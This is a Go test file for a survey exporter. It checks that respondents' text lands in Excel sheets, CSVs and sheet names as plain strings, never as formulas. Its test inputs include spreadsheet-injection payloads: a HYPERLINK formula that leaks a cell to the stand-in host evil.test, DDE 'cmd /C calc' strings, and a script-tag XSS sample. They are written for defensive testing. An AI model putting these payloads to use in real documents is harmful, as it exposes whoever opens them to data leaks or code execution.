package export_test

import (
	"bytes"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"odi/surveys"
	"odi/surveys/export"
	"odi/surveys/surveystest"
)

// What people typed reaches a spreadsheet as text it shows and never runs:
// in the workbook's cells, in the ranked CSV and in the names of sheets.

// hostile are texts people could type that a spreadsheet might run, or that
// could break a page or a sheet.
var hostile = []string{
	`=HYPERLINK("http://evil.test/?leak="&A1,"Click")`,
	"+44 20 7946 0000",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"<script>alert('x')</script> & <b>bold</b>",
	"\u202Eevil reversed",
	"خفض الوقت اللازم للعثور على قرار",
	"\u200B=1+1 behind a zero-width space",
	"＝1+1",
	strings.Repeat("Minimize the time it takes to find it ", 1000),
}

func TestHostileTextIsNeutralised(t *testing.T) {
	labels := []string{"=1+1", "+seg", "-seg", "@seg", "<b>seg</b>", "Sales/Ops: [EMEA]?*", strings.Repeat("Long label ", 10), "summary"}
	d := newDesign(hostile[0], hostile, []surveys.Question{
		{Key: "segment", Text: "Segment", Kind: surveys.KindSingle, Options: labels, Segment: true},
		{Key: "comment", Text: "Anything else?", Kind: surveys.KindText},
	})
	d.Study.Job = surveys.Job{When: "=1+1", Want: "+do it", SoThat: "-later"}
	d.Study.RespondentRole = "@role"
	s := &study{design: d}
	for i := range 40 {
		r := surveys.Response{RespondentID: fmt.Sprintf("r%02d", i), Status: surveys.Complete, Ratings: make([]byte, 2*len(hostile)),
			Answers: map[string]string{"segment": labels[i%len(labels)], "comment": hostile[i%len(hostile)]}}
		for j := range r.Ratings {
			r.Ratings[j] = byte(1 + (i+j)%5)
		}
		s.responses = append(s.responses, r)
	}
	in := s.input("segment", true)
	f, data := workbook(t, in)

	check := func(sheet, ref, want string) {
		t.Helper()
		got, err := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		if len(want) > 32767 {
			want = want[:len(got)]
			if len(got) < 30000 {
				t.Errorf("%s!%s: long text cut to %d bytes", sheet, ref, len(got))
			}
		}
		if got != want {
			t.Errorf("%s!%s = %.60q, want %.60q", sheet, ref, got, want)
		}
		if fx, _ := f.GetCellFormula(sheet, ref); fx != "" {
			t.Errorf("%s!%s is a formula: %q", sheet, ref, fx)
		}
		if typ, _ := f.GetCellType(sheet, ref); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("%s!%s has type %v, want a string", sheet, ref, typ)
		}
		lead := strings.ContainsAny(want[:1], "=+-@\t\r") || strings.HasPrefix(want, "＝")
		if q := quotePrefixed(t, f, sheet, ref); q != lead {
			t.Errorf("%s!%s %.20q: quotePrefix %v, want %v", sheet, ref, want, q, lead)
		}
	}
	check("Summary", "B3", hostile[0])
	check("Summary", "B4", d.Study.Job.Sentence())
	check("Summary", "B5", "@role")
	for i, o := range in.Opportunities.Groups[0].Outcomes {
		check("Opportunities", fmt.Sprintf("D%d", i+2), o.Statement)
		check("Segment comparison", fmt.Sprintf("C%d", i+3), o.Statement)
	}
	for i, o := range d.Outcomes {
		check("Outcomes", fmt.Sprintf("C%d", i+2), o.Statement)
	}
	sheets := f.GetSheetList()
	wantSheets := append([]string{"Summary", "Opportunities"}, export.SheetNames(labels)...)
	wantSheets = append(wantSheets, "Segment comparison", "Landscape", "Outcomes", "Responses", "Quality")
	if !slices.Equal(sheets, wantSheets) {
		t.Errorf("sheets %q, want %q", sheets, wantSheets)
	}
	for i, l := range labels {
		check(sheets[2+i], "S1", l)
		check("Segment comparison", fmt.Sprintf("%s2", string(rune('E'+i))), l)
	}
	rows := raw(t, f, "Responses")
	col := slices.Index(rows[0], "comment")
	for i, r := range s.responses {
		ref, _ := excelize.CoordinatesToCellName(col+1, i+2)
		check("Responses", ref, r.Answers["comment"])
	}
	// Nothing anywhere in the package is a formula.
	for _, sh := range sheets {
		if x := zipFile(t, data, sheetPath(t, data, sh)); bytes.Contains(x, []byte("<f>")) || bytes.Contains(x, []byte("<f ")) {
			t.Errorf("sheet %s holds a formula", sh)
		}
	}
}

func TestRankedCSVIsLongFormatWithBOM(t *testing.T) {
	s := worked(t)
	opps := s.opportunities("team_size")
	opps.Groups[1].Label = "=small"
	var buf bytes.Buffer
	if err := export.RankedCSV(&buf, opps.ExportGroups()); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("\xef\xbb\xbf")) {
		t.Fatal("no byte order mark")
	}
	recs := surveystest.CSV(t, strings.TrimPrefix(buf.String(), "\ufeff"))
	if want := append([]string{"Group"}, export.RankedHeader...); !slices.Equal(recs[0], want) {
		t.Fatalf("header %q", recs[0])
	}
	i := 1
	for _, g := range opps.Groups {
		label := g.Label
		if label == "=small" {
			label = "'=small"
		}
		for _, o := range g.Outcomes {
			r := recs[i]
			i++
			if r[0] != label || r[1] != strconv.Itoa(o.Rank) || r[2] != o.Code || r[4] != o.Statement || num(t, r[7]) != o.Opportunity || r[8] != o.Class {
				t.Errorf("row %d: %q", i, r)
			}
			if num(t, r[16]) != o.Gap {
				t.Errorf("row %d gap %s, want %v", i, r[16], o.Gap)
			}
		}
	}
	if i != len(recs) {
		t.Errorf("%d rows, want %d", len(recs), i)
	}
}

func TestSheetNamesAreSafeAndUnique(t *testing.T) {
	long := strings.Repeat("x", 40)
	tests := []struct {
		name   string
		labels []string
		want   []string
	}{
		{"plain", []string{"1-9", "10-49", "250+"}, []string{"1-9", "10-49", "250+"}},
		{"forbidden characters", []string{`a[b]c:d*e?f/g\h`}, []string{"a_b_c_d_e_f_g_h"}},
		{"31 characters", []string{long}, []string{long[:31]}},
		{"duplicates after cutting", []string{long, long + "y"}, []string{long[:31], long[:27] + " (2)"}},
		{"duplicates ignoring case", []string{"Small", "small", "SMALL"}, []string{"Small", "small (2)", "SMALL (3)"}},
		{"fixed names", []string{"Summary", "opportunities", "Segment Comparison", "LANDSCAPE", "Outcomes", "responses", "Quality", "History"},
			[]string{"Summary (2)", "opportunities (2)", "Segment Comparison (2)", "LANDSCAPE (2)", "Outcomes (2)", "responses (2)", "Quality (2)", "History (2)"}},
		{"apostrophes at the ends", []string{"'quoted'", "it's"}, []string{"quoted", "it's"}},
		{"empty and blank", []string{"", "  ", "\t"}, []string{"Segment 1", "Segment 2", "Segment 3"}},
		{"invisible characters", []string{"a\u200Bb\u202Ec", "line\nbreak"}, []string{"abc", "line break"}},
		{"wide characters", []string{strings.Repeat("😀", 20)}, []string{strings.Repeat("😀", 15)}},
		{"formula-looking", []string{"=1+1", "@x"}, []string{"=1+1", "@x"}},
		{"suffix keeps the limit", []string{strings.Repeat("a", 31), strings.Repeat("A", 31)}, []string{strings.Repeat("a", 31), strings.Repeat("A", 27) + " (2)"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := export.SheetNames(tt.labels)
			if !slices.Equal(got, tt.want) {
				t.Errorf("SheetNames(%q) = %q, want %q", tt.labels, got, tt.want)
			}
			// Every name is one excelize (and so Excel) accepts.
			f := excelize.NewFile()
			defer f.Close()
			for _, n := range got {
				if _, err := f.NewSheet(n); err != nil {
					t.Errorf("%q: %v", n, err)
				}
			}
			if len(f.GetSheetList()) != len(got)+1 {
				t.Errorf("names clash: %q", f.GetSheetList())
			}
		})
	}
}
